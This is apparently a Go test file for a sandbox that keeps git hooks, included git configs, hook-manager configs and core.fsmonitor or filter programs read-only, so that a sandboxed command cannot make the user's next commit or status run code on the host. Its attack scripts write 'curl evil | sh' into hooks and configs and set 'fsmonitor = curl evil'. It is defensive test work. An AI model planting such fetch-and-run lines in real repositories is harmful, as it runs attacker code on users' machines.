package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// What a repository's config makes the user's git run or obey in the work
// tree is held read-only: the hooks of core.hooksPath (husky's .husky/_,
// whose stubs run .husky/pre-commit), the config files it includes and what
// those include. Before, a sandboxed command appended to .husky/pre-commit
// or to an included ../shared.gitconfig (core.fsmonitor), and the user's
// next commit or status ran it on the host. Attack: each write fails and
// the file is unchanged; the include and hook the command creates where
// none was are moved away and reported. Twin: the rest of the work tree,
// and the same files in a repository whose config names none of them, stay
// writable.
func TestGitConfigTargetsHeldReadOnly(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	ws := t.TempDir()
	gitRepo(t, ws, [][2]string{
		{"core.hooksPath", ".husky/_"},
		{"include.path", "../shared.gitconfig"},
		{"includeIf.onbranch:main.path", "../missing.cfg"},
	}, map[string]string{
		".husky/_/h":          "#!/bin/sh\n",
		".husky/pre-commit":   "npm test\n",
		"shared.gitconfig":    "[include]\n\tpath = conf/more.cfg\n",
		"conf/more.cfg":       "[core]\n\tautocrlf = false\n",
		"src/main.go":         "package main\n",
		".husky/_/.gitignore": "*\n",
	})
	attacks := map[string]string{
		".husky/pre-commit": "npm test\n",
		".husky/_/h":        "#!/bin/sh\n",
		"shared.gitconfig":  "[include]\n\tpath = conf/more.cfg\n",
		"conf/more.cfg":     "[core]\n\tautocrlf = false\n",
	}
	script := `for f in .husky/pre-commit .husky/_/h shared.gitconfig conf/more.cfg; do echo 'curl evil | sh' >> $f && echo "wrote $f"; done
printf '[core]\n\tfsmonitor = curl evil\n' > missing.cfg
echo 'curl evil | sh' > .husky/_/post-checkout
echo 'package main // edited' > src/main.go
echo ok > notes.txt`
	res := run(t, ws, Command{Argv: sh(script)})
	for name, want := range attacks {
		if got := readFile(t, filepath.Join(ws, name)); got != want {
			t.Errorf("%s was rewritten by the sandboxed command: %q", name, got)
		}
	}
	var removed []string
	for _, r := range res.Removed {
		removed = append(removed, r.Path)
	}
	for _, name := range []string{"missing.cfg"} {
		p := filepath.Join(ws, name)
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s, which the config includes, was created and left in place", name)
		}
		if !slices.Contains(removed, p) {
			t.Errorf("%s was not reported as moved away: %q", name, removed)
		}
	}
	if _, err := os.Lstat(filepath.Join(ws, ".husky/_/post-checkout")); err == nil {
		t.Error("a new hook was created in core.hooksPath")
	}
	if got := readFile(t, filepath.Join(ws, "src/main.go")); got != "package main // edited\n" {
		t.Errorf("twin: the work tree's source was not writable: %q (%s)", got, res.Output)
	}
	if got := readFile(t, filepath.Join(ws, "notes.txt")); got != "ok\n" {
		t.Errorf("twin: a new file in the work tree: %q", got)
	}

	plain := t.TempDir()
	gitRepo(t, plain, nil, map[string]string{".husky/pre-commit": "npm test\n", "shared.gitconfig": "[core]\n"})
	res = run(t, plain, Command{Argv: sh(`echo more >> .husky/pre-commit && echo more >> shared.gitconfig`)})
	if res.ExitCode != 0 || readFile(t, filepath.Join(plain, ".husky/pre-commit")) != "npm test\nmore\n" {
		t.Errorf("twin: without a config naming them, the files were not writable (exit %d): %s", res.ExitCode, res.Output)
	}
}

// A hooks directory inside the git dir (core.hooksPath = .git/myhooks) is
// no data of git's: one the command makes is moved away, like a missing
// hooks/. A relative core.hooksPath in the user's global config names a
// directory in every work tree: held read-only there.
func TestGitConfigHooksInGitDirAndFromGlobalConfig(t *testing.T) {
	global := filepath.Join(t.TempDir(), "gitconfig")
	if err := os.WriteFile(global, []byte("[core]\n\thooksPath = .githooks\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("GIT_CONFIG_GLOBAL", global)
	ws := t.TempDir()
	gitRepo(t, ws, [][2]string{{"core.hooksPath", ".git/myhooks"}}, map[string]string{".githooks/pre-push": "exit 0\n"})
	res := run(t, ws, Command{Argv: sh(`mkdir -p .git/myhooks && echo 'curl evil|sh' > .git/myhooks/pre-commit; echo x >> .githooks/pre-push; git status --short >/dev/null; echo ok > f`)})
	if _, err := os.Lstat(filepath.Join(ws, ".git/myhooks")); err == nil {
		t.Errorf(".git/myhooks, the repository's hooks, was made and left: %+v", res.Removed)
	}
	if got := readFile(t, filepath.Join(ws, ".githooks/pre-push")); got != "exit 0\n" {
		t.Errorf("the global config's hooks directory in the work tree was rewritten: %q", got)
	}
	if got := readFile(t, filepath.Join(ws, "f")); got != "ok\n" {
		t.Errorf("twin: the work tree was not writable: %q (%s)", got, res.Output)
	}
}

// With pre-commit's hook installed, .pre-commit-config.yaml lists what the
// user's next commit runs (a "local" hook is any command line); with
// lefthook's, lefthook.yml and the local override lefthook-local.yml do.
// Attack: the command's edit of the first fails, and the override it
// creates is moved away. Twin: in a repository without those hooks the
// same files are the project's own, and writable.
func TestHookManagersConfigsHeldReadOnly(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	preCommit := "#!/usr/bin/env bash\nARGS=(hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit)\nexec pre-commit \"${ARGS[@]}\"\n"
	lefthook := "#!/bin/sh\ncall_lefthook run \"pre-push\" \"$@\"\n"
	config := "repos: []\n"
	attack := `echo '- repo: local' >> .pre-commit-config.yaml; printf 'pre-push:\n  commands:\n    x:\n      run: curl evil | sh\n' > lefthook-local.yml; echo ok > f`

	ws := t.TempDir()
	gitRepo(t, ws, nil, map[string]string{".git/hooks/pre-commit": preCommit, ".git/hooks/pre-push": lefthook, ".pre-commit-config.yaml": config})
	res := run(t, ws, Command{Argv: sh(attack)})
	if got := readFile(t, filepath.Join(ws, ".pre-commit-config.yaml")); got != config {
		t.Errorf("the installed pre-commit's config was rewritten: %q", got)
	}
	if _, err := os.Lstat(filepath.Join(ws, "lefthook-local.yml")); err == nil {
		t.Errorf("lefthook-local.yml was made and left: %+v", res.Removed)
	}
	if got := readFile(t, filepath.Join(ws, "f")); got != "ok\n" {
		t.Errorf("twin: the work tree was not writable: %q (%s)", got, res.Output)
	}

	plain := t.TempDir()
	gitRepo(t, plain, nil, map[string]string{".pre-commit-config.yaml": config})
	res = run(t, plain, Command{Argv: sh(attack)})
	if got := readFile(t, filepath.Join(plain, ".pre-commit-config.yaml")); got != config+"- repo: local\n" || len(res.Removed) != 0 {
		t.Errorf("twin: without the hooks, the config was not writable: %q, removed %+v", got, res.Removed)
	}
}

// A file the user's global config includes, in a writable root that is no
// repository (a dotfiles directory opened as the workspace), is what every
// git on the host reads: held read-only. Twin: the files beside it.
func TestGlobalConfigIncludeInAWorkspaceWithoutRepository(t *testing.T) {
	ws := t.TempDir()
	inc := filepath.Join(ws, "git", "shared.inc")
	global := filepath.Join(t.TempDir(), "gitconfig")
	if err := os.WriteFile(global, []byte("[include]\n\tpath = "+inc+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Setenv("GIT_CONFIG_GLOBAL", global)
	if err := os.MkdirAll(filepath.Dir(inc), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(inc, []byte("[user]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	res := run(t, ws, Command{Argv: sh(`printf '[core]\n\tfsmonitor = curl evil\n' >> git/shared.inc; echo x > git/other`)})
	if got := readFile(t, inc); got != "[user]\n" {
		t.Errorf("the global config's include in the workspace was rewritten: %q", got)
	}
	if got := readFile(t, filepath.Join(ws, "git", "other")); got != "x\n" {
		t.Errorf("twin: beside it was not writable: %q (%s)", got, res.Output)
	}
}

// A .git/hooks that is a symbolic link into the work tree (a way to share
// hooks) cannot be held read-only: the command could point it elsewhere.
// The run is refused, nothing runs, and the refusal names git's own way,
// core.hooksPath. Twin: with core.hooksPath naming the same directory the
// command runs, and the hooks stay read-only.
func TestLinkedHooksRefusedWithTheWayOut(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	ws := t.TempDir()
	gitRepo(t, ws, nil, map[string]string{"scripts/pre-commit": "exit 0\n"})
	hooks := filepath.Join(ws, ".git", "hooks")
	if err := os.RemoveAll(hooks); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../scripts", hooks); err != nil {
		t.Fatal(err)
	}
	_, err := Run(context.Background(), Command{Argv: sh(`echo ran > ran`), Cwd: ws, Helper: testHelper, Policy: Policy{Workspace: []string{ws}}})
	if err == nil || !strings.Contains(err.Error(), "core.hooksPath") {
		t.Fatalf("err = %v, want a refusal naming core.hooksPath", err)
	}
	if _, err := os.Lstat(filepath.Join(ws, "ran")); err == nil {
		t.Fatal("the command ran")
	}

	if err := os.Remove(hooks); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("git", "-C", ws, "config", "core.hooksPath", "scripts").CombinedOutput(); err != nil {
		t.Fatalf("git config: %v %s", err, out)
	}
	res := run(t, ws, Command{Argv: sh(`echo ran > ran; echo x >> scripts/pre-commit`)})
	if readFile(t, filepath.Join(ws, "ran")) != "ran\n" || readFile(t, filepath.Join(ws, "scripts", "pre-commit")) != "exit 0\n" {
		t.Errorf("twin: with core.hooksPath the command did not run, or rewrote the hook: %s", res.Output)
	}
}

// A core.hooksPath that goes through a symbolic link in the work tree
// (.gh -> real) cannot be held: the command would replace the link with a
// directory of its own hooks. The run is refused naming the link, and
// nothing runs. Twin: core.hooksPath naming the real directory runs, with
// the hooks read-only.
func TestHooksPathThroughALinkRefused(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	ws := t.TempDir()
	gitRepo(t, ws, [][2]string{{"core.hooksPath", ".gh/hooks"}}, map[string]string{"real/hooks/pre-commit": "exit 0\n"})
	if err := os.Symlink("real", filepath.Join(ws, ".gh")); err != nil {
		t.Fatal(err)
	}
	attack := `rm .gh && mkdir -p .gh/hooks && echo 'curl evil | sh' > .gh/hooks/pre-commit`
	_, err := Run(context.Background(), Command{Argv: sh(attack), Cwd: ws, Helper: testHelper, Policy: Policy{Workspace: []string{ws}}})
	if err == nil || !strings.Contains(err.Error(), "through the symbolic link "+filepath.Join(ws, ".gh")) {
		t.Fatalf("err = %v, want a refusal naming the link", err)
	}
	if st, err := os.Lstat(filepath.Join(ws, ".gh")); err != nil || st.Mode()&os.ModeSymlink == 0 {
		t.Fatal("the command ran: .gh was replaced")
	}

	if out, err := exec.Command("git", "-C", ws, "config", "core.hooksPath", "real/hooks").CombinedOutput(); err != nil {
		t.Fatalf("git config: %v %s", err, out)
	}
	res := run(t, ws, Command{Argv: sh(`echo x >> real/hooks/pre-commit; echo ok > f`)})
	if readFile(t, filepath.Join(ws, "f")) != "ok\n" || readFile(t, filepath.Join(ws, "real/hooks/pre-commit")) != "exit 0\n" {
		t.Errorf("twin: the command did not run, or rewrote the hook: %s", res.Output)
	}
}

// A linked worktree (git worktree add, as agents use them) has its own
// checkout of the hooks a relative core.hooksPath names, and git run there
// obeys the common dir's config. Before, neither a workspace that is the
// linked worktree (its git dir in the main repository, elsewhere) nor one
// holding it (.worktrees/inner of the main repository) protected them: a
// sandboxed command appended to .husky/pre-commit and the user's next
// commit in that worktree ran it. Attack: the writes fail, the files are
// unchanged. Twin: the linked worktree's source stays writable.
func TestLinkedWorktreeHooksHeldReadOnly(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	base := t.TempDir()
	main := filepath.Join(base, "main")
	gitRepo(t, main, nil, map[string]string{
		".husky/_/pre-commit": "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n",
		".husky/pre-commit":   "npm test\n",
		"src/main.go":         "package main\n",
	})
	git := func(dir string, args ...string) {
		t.Helper()
		cmd := exec.Command("git", append([]string{"-C", dir, "-c", "user.name=t", "-c", "user.email=t@t"}, args...)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v %s", args, err, out)
		}
	}
	git(main, "add", "-A")
	git(main, "commit", "-qm", "init")
	git(main, "config", "core.hooksPath", ".husky/_")
	feat := filepath.Join(base, "feat")
	git(main, "worktree", "add", "-q", feat)
	git(main, "worktree", "add", "-q", filepath.Join(main, ".worktrees", "inner"))

	for _, c := range []struct{ name, ws, tree string }{
		{"workspace is the linked worktree", feat, feat},
		{"linked worktree inside the workspace", main, filepath.Join(main, ".worktrees", "inner")},
	} {
		t.Run(c.name, func(t *testing.T) {
			rel, err := filepath.Rel(c.ws, c.tree)
			if err != nil {
				t.Fatal(err)
			}
			script := `cd ` + rel + ` && for f in .husky/pre-commit .husky/_/pre-commit; do echo 'curl evil | sh' >> $f; done
echo 'curl evil | sh' > .husky/_/post-checkout
echo 'package main // edited' > src/main.go`
			res := run(t, c.ws, Command{Argv: sh(script)})
			for name, want := range map[string]string{
				".husky/pre-commit":   "npm test\n",
				".husky/_/pre-commit": "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n",
			} {
				if got := readFile(t, filepath.Join(c.tree, name)); got != want {
					t.Errorf("%s of the linked worktree was rewritten: %q", name, got)
				}
			}
			if _, err := os.Lstat(filepath.Join(c.tree, ".husky/_/post-checkout")); err == nil {
				t.Error("a new hook was created in the linked worktree's hooks directory")
			}
			if got := readFile(t, filepath.Join(c.tree, "src/main.go")); got != "package main // edited\n" {
				t.Errorf("twin: the linked worktree's source was not writable: %q (%s)", got, res.Output)
			}
		})
	}
}

// A program the repository's config names by a path in the work tree runs
// on the host at the user's next status (core.fsmonitor, a filter's clean)
// or diff: held read-only, and moved away when the command makes a missing
// one. Twin: a program behind a symbolic link (a virtualenv's python, as
// nbstripout's filter names it) neither refuses the run nor is held, and
// the rest of tools/ stays writable.
func TestProgramsTheConfigNamesHeldReadOnly(t *testing.T) {
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(t.TempDir(), "none"))
	ws := t.TempDir()
	gitRepo(t, ws, [][2]string{
		{"core.fsmonitor", "./tools/fsmon.sh"},
		{"filter.strip.clean", "./tools/clean.sh --in-place"},
		{"diff.nb.textconv", ".venv/bin/python -m nbconv"},
	}, map[string]string{
		"tools/fsmon.sh":     "#!/bin/sh\n",
		"tools/other.sh":     "#!/bin/sh\n",
		".venv/real/python3": "#!/bin/sh\n",
		".gitattributes":     "*.ipynb filter=strip diff=nb\n",
	})
	if err := os.MkdirAll(filepath.Join(ws, ".venv", "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../real/python3", filepath.Join(ws, ".venv", "bin", "python")); err != nil {
		t.Fatal(err)
	}
	res := run(t, ws, Command{Argv: sh(`echo 'curl evil | sh' >> tools/fsmon.sh; echo 'curl evil | sh' > tools/clean.sh; echo ok >> tools/other.sh; echo '#' >> .venv/real/python3`)})
	if got := readFile(t, filepath.Join(ws, "tools/fsmon.sh")); got != "#!/bin/sh\n" {
		t.Errorf("core.fsmonitor's program was rewritten: %q", got)
	}
	if _, err := os.Lstat(filepath.Join(ws, "tools/clean.sh")); err == nil {
		t.Errorf("the filter's missing program was created and left: %+v", res.Removed)
	}
	if got := readFile(t, filepath.Join(ws, "tools/other.sh")); got != "#!/bin/sh\nok\n" {
		t.Errorf("twin: tools/other.sh not writable: %q (%s)", got, res.Output)
	}
	if got := readFile(t, filepath.Join(ws, ".venv/real/python3")); got != "#!/bin/sh\n#\n" {
		t.Errorf("twin: the virtualenv behind the link not writable: %q (%s)", got, res.Output)
	}
}
